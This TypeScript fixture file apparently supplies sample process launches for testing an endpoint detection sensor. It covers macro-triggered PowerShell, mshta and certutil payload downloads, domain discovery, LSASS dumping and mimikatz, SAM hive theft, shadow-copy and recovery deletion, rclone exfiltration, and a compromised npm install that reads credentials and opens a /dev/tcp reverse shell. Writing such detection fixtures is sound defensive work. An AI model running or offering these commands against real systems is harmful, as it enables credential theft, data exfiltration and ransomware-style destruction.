import type { Program } from "../sensors/endpoint.ts";

const SYSTEM32 = String.raw`C:\Windows\System32`;
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** What starts after somebody opened a document and allowed its macros. */
export const MACRO_LAUNCHES: readonly Program[] = [
  [
    POWERSHELL,
    "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
    "WINWORD.EXE",
  ],
  [
    POWERSHELL,
    "powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://cdn-office.example/u.ps1')",
    "EXCEL.EXE",
  ],
  [`${SYSTEM32}\\mshta.exe`, "mshta.exe https://cdn-office.example/i.hta", "OUTLOOK.EXE"],
  [
    `${SYSTEM32}\\certutil.exe`,
    String.raw`certutil.exe -urlcache -split -f https://cdn-office.example/u.dat C:\Users\Public\u.exe`,
    "WINWORD.EXE",
  ],
];

/** Where am I, who is there? Administrators ask that too. */
export const DISCOVERY: readonly Program[] = [
  [`${SYSTEM32}\\whoami.exe`, "whoami /all", "cmd.exe"],
  [`${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain', "cmd.exe"],
  [`${SYSTEM32}\\nltest.exe`, "nltest /dclist:", "cmd.exe"],
  [`${SYSTEM32}\\net.exe`, "net view /all", "cmd.exe"],
  [`${SYSTEM32}\\ipconfig.exe`, "ipconfig /all", "cmd.exe"],
];

/** Passwords out of memory and out of the registry. */
export const CREDENTIAL_THEFT: readonly Program[] = [
  [
    `${SYSTEM32}\\rundll32.exe`,
    String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full`,
    "cmd.exe",
  ],
  [String.raw`C:\Users\Public\m.exe`, 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "cmd.exe"],
  [`${SYSTEM32}\\reg.exe`, String.raw`reg save HKLM\SAM C:\Windows\Temp\s.hiv`, "cmd.exe"],
];

/** What keeps a victim from restoring files. */
export const RECOVERY_REMOVAL: readonly Program[] = [
  [`${SYSTEM32}\\vssadmin.exe`, "vssadmin.exe Delete Shadows /All /Quiet", "cmd.exe"],
  [`${SYSTEM32}\\wbem\\WMIC.exe`, "wmic shadowcopy delete /nointeractive", "cmd.exe"],
  [`${SYSTEM32}\\bcdedit.exe`, "bcdedit /set {default} recoveryenabled No", "cmd.exe"],
  [`${SYSTEM32}\\wbadmin.exe`, "wbadmin delete catalog -quiet", "cmd.exe"],
];

/** Packing things up and taking them away. */
export const COLLECTION: readonly Program[] = [
  [
    String.raw`C:\Program Files\7-Zip\7z.exe`,
    String.raw`7z.exe a -mx=1 -v500m C:\ProgramData\b.7z S:\finance S:\legal`,
    "cmd.exe",
  ],
  [
    String.raw`C:\ProgramData\rclone.exe`,
    String.raw`rclone.exe copy C:\ProgramData\b.7z mega:drop --transfers 16 -q`,
    "cmd.exe",
  ],
];

/** What a package does that was changed on its way, when it is installed. */
export const PACKAGE_SCRIPTS: readonly Program[] = [
  ["/usr/bin/node", "node -e require('./lib/setup.js')", "npm"],
  ["/bin/sh", "sh -c curl -fsSL https://npm-telemetry.example/i.sh | bash", "node"],
  ["/usr/bin/cat", "cat /home/runner/.npmrc /home/runner/.aws/credentials", "bash"],
  ["/bin/bash", "bash -c 'bash -i >& /dev/tcp/89.248.165.20/443 0>&1'", "node"],
  ["/usr/bin/npm", "npm publish --access public --tag latest", "bash"],
];
